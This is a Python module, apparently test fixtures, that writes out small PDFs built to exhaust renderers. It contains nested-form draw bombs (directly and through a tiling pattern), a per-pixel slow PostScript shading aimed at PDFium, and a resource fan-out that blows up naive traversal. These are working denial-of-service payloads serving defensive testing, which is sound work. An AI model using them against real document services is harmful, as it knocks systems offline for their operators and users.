"""Hostile PDFs of a few kilobytes, written object by object: what an attacker sends to intake.

Each asks for far more than it holds: forms that draw forms ten times, nine levels deep (10⁹
draws), reached from a page's content or through a tiling pattern; a shading worked out
pixel by pixel by a long function; resources that list the next level's form forty times,
six levels deep.
"""

from __future__ import annotations

A4 = "[0 0 595 842]"


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF of `objects` (numbered from 1; object 1 the catalogue), with its xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n"
    ).encode()
    return bytes(out)


def _stream(dictionary: str, content: bytes) -> bytes:
    return (
        f"<< {dictionary} /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream"
    )


def _one_page(resources: str, content: bytes) -> list[bytes]:
    """Objects 1 to 4: the catalogue, the page tree, one A4 page and its content."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            f"<< /Type /Page /Parent 2 0 R /MediaBox {A4} /Contents 4 0 R "
            f"/Resources << {resources} >> >>"
        ).encode(),
        _stream("", content),
    ]


def _nested_forms(first: int, levels: int, fan: int) -> list[bytes]:
    """Forms numbered from `first`, each drawing the next `fan` times; the last a dot."""
    forms = []
    for level in range(levels):
        if level == levels - 1:
            forms.append(_stream(f"/Type /XObject /Subtype /Form /BBox {A4}", b"0 0 1 1 re f"))
        else:
            resources = f"/Resources << /XObject << /X {first + level + 1} 0 R >> >>"
            forms.append(
                _stream(f"/Type /XObject /Subtype /Form /BBox {A4} {resources}", b"/X Do " * fan)
            )
    return forms


def draw_bomb(levels: int = 9, fan: int = 10) -> bytes:
    """A page that draws a form `fan` times, each drawing the next `fan` times: fan**levels
    draws of a dot (10⁹ by default) from about 2 KB."""
    return _pdf(
        [*_one_page("/XObject << /X 5 0 R >>", b"/X Do " * fan), *_nested_forms(5, levels, fan)]
    )


def pattern_bomb(levels: int = 9, fan: int = 10) -> bytes:
    """The draw bomb painted through a tiling pattern that fills the page with one tile."""
    tile = _stream(
        "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 842 842] "
        "/XStep 842 /YStep 842 /Resources << /XObject << /X 6 0 R >> >>",
        b"/X Do",
    )
    page = _one_page("/Pattern << /P 5 0 R >>", b"/Pattern cs /P scn 0 0 595 842 re f")
    return _pdf([*page, tile, *_nested_forms(6, levels, fan)])


def slow_shading(steps: int = 2000) -> bytes:
    """A page filled by a shading whose colour is a PostScript function of `steps` steps, which
    PDFium works out afresh for every pixel: minutes of drawing, no memory to speak of."""
    function = b"{ add 0.5 mul " + b"dup mul 0.9 add 0.5 mul " * steps + b"}"
    shading = (
        b"<< /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 1 0 1] "
        b"/Matrix [595 0 0 842 0 0] /Function 6 0 R >>"
    )
    page = _one_page("/Shading << /Sh 5 0 R >>", b"/Sh sh")
    return _pdf(
        [*page, shading, _stream("/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]", function)]
    )


def resource_fan_out(levels: int = 6, fan: int = 40) -> bytes:
    """A page whose resources list a form whose resources list the next level's form `fan`
    times, `levels` deep: a naive walk of what the page can draw visits fan**(levels-1)."""
    forms = []
    first = 5
    for level in range(levels):
        number = first + level
        if level == levels - 1:
            forms.append(_stream("/Type /XObject /Subtype /Form /BBox [0 0 1 1]", b"0 0 1 1 re f"))
        else:
            names = " ".join(f"/X{i} {number + 1} 0 R" for i in range(fan))
            forms.append(
                _stream(
                    f"/Type /XObject /Subtype /Form /BBox [0 0 1 1] "
                    f"/Resources << /XObject << {names} >> >>",
                    b"0 0 1 1 re f",
                )
            )
    return _pdf([*_one_page(f"/XObject << /X {first} 0 R >>", b"0 0 1 1 re f"), *forms])
